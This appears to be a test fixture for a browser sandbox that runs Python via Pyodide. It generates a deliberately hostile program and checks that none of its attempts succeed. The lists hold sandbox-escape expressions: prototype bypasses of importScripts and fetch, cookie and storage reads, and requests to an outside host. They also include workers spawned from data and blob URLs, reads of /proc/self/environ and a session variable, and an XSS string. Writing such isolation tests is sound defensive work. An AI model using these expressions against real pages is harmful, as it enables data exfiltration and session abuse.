/**
 * A program that tries to reach everything around it, and checks that it reached nothing. Every engine uses the same
 * ones.
 */
import { createServer, type Server } from 'node:net';

/** Expressions that must fail, each tried separately. `SITE` and `OTHER` are hosts that answer. */
const mustFail = [
  'js.importScripts(SITE + "/start.js")',
  'js.importScripts(OTHER + "/x.js")',
  'js.importScripts("data:text/javascript,1")',
  'pyodide.code.run_js("1")',
  // A program can bypass the worker's own overrides through the prototypes behind them.
  'js.WorkerGlobalScope.prototype.importScripts.call(js.self, SITE + "/start.js")',
  'js.WorkerGlobalScope.prototype.importScripts.call(js.self, OTHER + "/x.js")',
  'js.WorkerGlobalScope.prototype.importScripts.call(js.self, "data:text/javascript,1")',
  'js.eval("1")',
  'js.Function.new("return 1")()',
  'js.indexedDB.open("qubloom").onsuccess',
  'js.localStorage.length',
  'js.localStorage.setItem("planted", "1")',
  'js.sessionStorage.length',
  'js.document.cookie',
  'js.parent.document',
  'js.window.top',
  'js.opener.location',
  'synchronous(SITE + "/api/user")',
  'synchronous(OTHER)',
  'pyodide.http.open_url(SITE + "/api/user")',
  'urllib.request.urlopen(SITE + "/api/user")',
  'urllib.request.urlopen(OTHER)',
  'socket.create_connection(("127.0.0.1", PORT), 1).send(b"x")',
  'os.environ["SESSION"]',
  'open("/proc/self/environ").read()',
];

/**
 * Expressions whose effect comes only after the program ends, so that the page outside checks that nothing happened.
 */
const mustHaveNoEffect = [
  'js.fetch(OTHER)',
  'js.WorkerGlobalScope.prototype.fetch.call(js.self, OTHER)',
  'js.WorkerGlobalScope.prototype.fetch.call(js.self, SITE + "/api/logout", js.JSON.parse(\'{"method":"POST","credentials":"include","mode":"no-cors"}\'))',
  'js.fetch(SITE + "/api/logout", js.JSON.parse(\'{"method":"POST","credentials":"include","mode":"no-cors"}\'))',
  'js.navigator.sendBeacon(OTHER, "x")',
  'js.WebSocket.new(OTHER.replace("http", "ws"))',
  'js.EventSource.new(OTHER)',
  'js.WebTransport.new(OTHER.replace("http", "https"))',
  'js.Worker.new(OTHER + "/worker.js")',
  'js.Worker.new(SITE + "/service-worker.js")',
  'js.Worker.new("data:text/javascript," + js.encodeURIComponent("import(\'" + OTHER + "/x.js\')"), js.JSON.parse(\'{"type":"module"}\'))',
  'js.SharedWorker.new("data:text/javascript," + js.encodeURIComponent("fetch(\'" + OTHER + "\')"))',
  'js.Worker.new(js.URL.createObjectURL(js.Blob.new(js.Array.of("fetch(\'" + OTHER + "\'); importScripts(\'" + OTHER + "\')"))))',
  'js.Worker.new("data:text/javascript," + js.encodeURIComponent("try{importScripts(\'" + OTHER + "\')}catch{};fetch(\'" + OTHER + "\')"))',
  'js.caches.open("planted")',
  'js.caches.keys()',
  'js.navigator.storage.getDirectory()',
  'js.navigator.serviceWorker.register(SITE + "/start.js")',
  'js.BroadcastChannel.new("planted").postMessage("heard")',
  'js.postMessage("planted")',
  'js.postMessage(js.JSON.parse(\'{"kind":"end","outcome":{"kind":"done","report":null}}\'))',
  'js.location.assign(OTHER)',
  'pyodide.http.pyfetch(OTHER).send(None)',
];

/** Output with markup, which also shows that output stays text. */
export const endOfTries = 'tried <img src=x onerror=alert(1)>';

/** Tries everything, prints each success, and prints `endOfTries` at the end. */
export const hostileProgram = (site: string, port: number) => `
import os, socket, time, urllib.request
import js, pyodide.code, pyodide.http

SITE, OTHER, PORT = "${site}", "http://127.0.0.1:${String(port)}", ${String(port)}

def synchronous(url):
    request = js.XMLHttpRequest.new()
    request.open("GET", url, False)
    request.send()

def attempt(line):
    try:
        eval(line)
        return True
    except BaseException:
        return False

for line in ${JSON.stringify(mustFail)}:
    if attempt(line):
        print("REACHED", line)
for line in ${JSON.stringify(mustHaveNoEffect)}:
    attempt(line)
# Requests have time to leave.
time.sleep(1)
print("${endOfTries}")
`;

/** Server that counts its visitors; there should be none. */
export async function listenForVisits() {
  let count = 0;
  const server: Server = createServer((socket) => {
    count += 1;
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('no port');
  return {
    port: address.port,
    visits: () => count,
    /** Checks that the server counts visitors at all. */
    async counts(): Promise<boolean> {
      const before = count;
      await fetch(`http://127.0.0.1:${String(address.port)}`).catch(() => undefined);
      return count > before;
    },
    close: () => server.close(),
  };
}

/** Runs in the page before the program: records messages that a program sends. */
export const listenInPage = `(() => {
  const heard = [];
  globalThis.heard = heard;
  new BroadcastChannel('planted').onmessage = ({ data }) => heard.push(data);
  addEventListener('message', ({ data }) => data === 'planted' && heard.push(data));
})()`;

/** Runs in the page after the program: collects its effects in the site's own origin. */
export const plantedInPage = `(async () => ({
  caches: (await caches.keys()).filter((name) => name === 'planted'),
  heard: globalThis.heard,
  stored: Object.keys(localStorage).filter((key) => key.includes('planted')),
  user: (await fetch('/api/user')).status,
  workers: (await navigator.serviceWorker.getRegistrations()).filter(({ active }) =>
    active?.scriptURL.endsWith('/start.js'),
  ).length,
}))()`;

export const nothingPlanted = { caches: [], heard: [], stored: [], user: 200, workers: 0 };
